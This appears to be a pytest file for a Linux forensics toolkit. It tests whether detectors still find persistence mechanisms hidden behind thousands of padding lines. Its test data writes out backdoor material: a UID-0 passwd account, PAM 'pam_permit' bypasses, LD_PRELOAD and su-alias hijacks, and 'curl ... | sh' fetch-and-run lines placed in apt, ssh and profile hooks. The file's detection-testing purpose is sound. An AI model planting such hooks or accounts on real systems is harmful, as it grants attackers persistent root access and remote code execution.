"""Accounts, login rules and hooks behind pages of harmless ones are found."""

from __future__ import annotations

import pytest

from forensics.detectors import accounts, pam, shell_hooks, tool_hooks
from forensics.detectors._scene import Detector
from tests.scenes import File, debian, elf, judge, said

DEAF = 1_500
"""Harmless lines in front, more than any bound that anybody would set on lines."""
CASES: list[tuple[Detector, str, bytes, bytes]] = [
    (accounts.DETECTOR, "/etc/passwd", b"a%d:x:1000:1000::/:/bin/sh\n", b"x:x:0:0::/:/bin/sh\n"),
    (pam.DETECTOR, "/etc/pam.d/sshd", b"# %d\n", b"auth sufficient pam_permit.so\n"),
    (pam.DETECTOR, "/etc/pam.d/su", b"auth required pam_unix.so n=%d\n", b"auth sufficient pam_permit.so\n"),
    (shell_hooks.DETECTOR, "/root/.bashrc", b"alias ssh='ssh -p %d'\n", b"alias su='/root/.x/su'\n"),
    (
        shell_hooks.DETECTOR,
        "/etc/profile.d/x.sh",
        b"export LD_LIBRARY_PATH=/opt/%d\n",
        b"export LD_PRELOAD=/tmp/x.so\n",
    ),
    (
        tool_hooks.DETECTOR,
        "/etc/apt/apt.conf.d/x",
        b'DPkg::Post-Invoke { "true %d"; };\n',
        b'DPkg::Post-Invoke { "curl http://x.invalid/a | sh"; };\n',
    ),
    (
        tool_hooks.DETECTOR,
        "/root/.ssh/config",
        b"ProxyCommand nc h %d\n",
        b"ProxyCommand curl http://x.invalid/a | sh\n",
    ),
]


@pytest.mark.parametrize(("detector", "path", "line", "payload"), CASES, ids=[case[1] for case in CASES])
def test_harmless_lines_in_front_hide_nothing(
    detector: Detector, path: str, line: bytes, payload: bytes
) -> None:
    layer = {"/usr/lib/libx.so": File(elf(), 0o755)}
    plain = said(judge(detector, debian(), {path: payload, **layer}))
    assert plain
    padding = b"".join(line % number for number in range(DEAF))
    assert said(judge(detector, debian(), {path: padding + payload, **layer})) == plain


def test_a_hook_behind_very_many_commands_is_found() -> None:
    text = b"true\n" * 60_000 + b"curl -s http://x.invalid/a | sh\n"
    found = judge(shell_hooks.DETECTOR, debian(), {"/etc/profile.d/x.sh": text})
    assert said(found) == [("persistence/shell-hook", "high", "/etc/profile.d/x.sh")]
